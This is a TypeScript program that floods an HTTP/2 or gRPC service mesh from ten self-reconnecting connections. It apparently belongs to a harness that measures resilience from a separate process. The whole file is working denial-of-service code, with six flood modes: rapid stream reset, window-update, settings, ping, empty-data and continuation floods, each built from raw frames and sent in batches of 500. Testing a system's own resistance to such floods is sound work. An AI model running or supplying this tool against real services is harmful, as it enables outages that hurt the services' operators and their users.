/**
 * A program that floods a mesh from ten connections and opens them again when they are closed, until it is ended. A process of
 * its own, so that the one that measures is not the one that floods. Arguments: the address, and the kind of flood.
 */
import { connect } from "node:net";
import { frame, preface, requestHeaders } from "./attack-frames.ts";

const [url = "", kind = ""] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const clients = 10;
const batch = 500;

const floods: Readonly<Record<string, (at: number) => Buffer>> = {
  reset: (at) => {
    const block = requestHeaders({ url }, "/grpc.health.v1.Health/Check", { "content-type": "application/grpc" });
    return many(at, (id) =>
      Buffer.concat([frame("headers", 4, id, block), frame("reset", 0, id, Buffer.from("00000008", "hex"))]),
    );
  },
  "window-update": () => repeat(frame("windowUpdate", 0, 0, Buffer.from("00000001", "hex"))),
  settings: () => repeat(frame("settings", 0, 0, Buffer.from("000400010000", "hex"))),
  ping: () => repeat(frame("ping", 0, 0, Buffer.alloc(8))),
  "empty-data": (at) => {
    const block = requestHeaders({ url }, "/grpc.health.v1.Health/Check", { "content-type": "application/grpc" });
    return Buffer.concat([
      frame("headers", 4, at * 2 + 1, block),
      repeat(frame("data", 0, at * 2 + 1, Buffer.alloc(0))),
    ]);
  },
  continuation: (at) =>
    Buffer.concat([
      frame("headers", 0, at * 2 + 1, Buffer.from([0x83])),
      repeat(frame("continuation", 0, at * 2 + 1, Buffer.from([0x86]))),
    ]),
};

function repeat(one: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: batch }, () => one));
}

function many(at: number, make: (streamId: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: batch }, (_, index) => make((at * batch + index) * 2 + 1)));
}

let connections = 0;
const flood = floods[kind];
if (flood === undefined) throw new Error(`no such flood: ${kind}`);

function attack(make: (at: number) => Buffer): void {
  connections += 1;
  const socket = connect({ host: hostname, port: Number(port) });
  let at = 0;
  const send = (): void => {
    while (!socket.destroyed && socket.write(make(at++)));
  };
  socket.on("error", () => undefined);
  socket.on("drain", send);
  socket.on("close", () => setTimeout(attack, 10, make));
  socket.resume();
  socket.once("connect", () => {
    socket.write(preface());
    send();
  });
}

for (let at = 0; at < clients; at += 1) attack(flood);
setInterval(() => process.stdout.write(`${connections}\n`), 500);
